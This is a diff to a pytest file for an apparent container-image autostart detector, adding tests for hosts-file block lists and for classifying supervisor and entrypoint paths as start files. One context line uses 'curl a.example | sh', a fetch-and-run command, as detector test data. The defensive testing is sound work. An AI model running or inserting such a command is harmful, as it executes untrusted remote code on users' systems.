@@ -4,7 +4,7 @@ import time
 
 import pytest
 
-from ocianalyze.detectors.autostart import NAME, OBSERVER, kind_of, signs
+from ocianalyze.detectors.autostart import HOSTS, NAME, OBSERVER, SERVICE, kind_of, signs
 from tests.images import Layer, image
 
 
@@ -94,3 +94,29 @@ def test_a_long_file_is_read_to_a_bound() -> None:
 
 def test_a_kernel_module_is_not_read() -> None:
     assert _told("usr/lib/modules/6.1/x.ko", b"curl a.example | sh\n") == []
+
+
+@pytest.mark.parametrize(
+    "address", ["0.0.0.0", "127.0.0.1", "127.0.0.53", "::", "::1", "::ffff:127.0.0.1"]
+)
+def test_a_list_of_names_to_block_sends_none_elsewhere(address: str) -> None:
+    layer: Layer = {HOSTS: f"{address} ads.a.example tracker.b.example\n".encode() * 500}
+    assert not list(image(layer, observers=(OBSERVER,)).tree.observations(NAME))
+
+
+@pytest.mark.parametrize(
+    ("path", "kind"),
+    [
+        ("etc/services.d/web/run", SERVICE),
+        ("etc/s6-overlay/s6-rc.d/web/up", SERVICE),
+        ("etc/s6-overlay/s6-rc.d/web/type", ""),
+        ("etc/service/web/log/run", SERVICE),
+        ("etc/cont-init.d/10-x", SERVICE),
+        ("etc/supervisor/conf.d/x.conf", SERVICE),
+        ("docker-entrypoint.d/10-x.sh", SERVICE),
+        ("docker-entrypoint-initdb.d/x.sql", SERVICE),
+        ("opt/run", ""),
+    ],
+)
+def test_supervisors_and_entry_points_start_files(path: str, kind: str) -> None:
+    assert kind_of(path) == kind
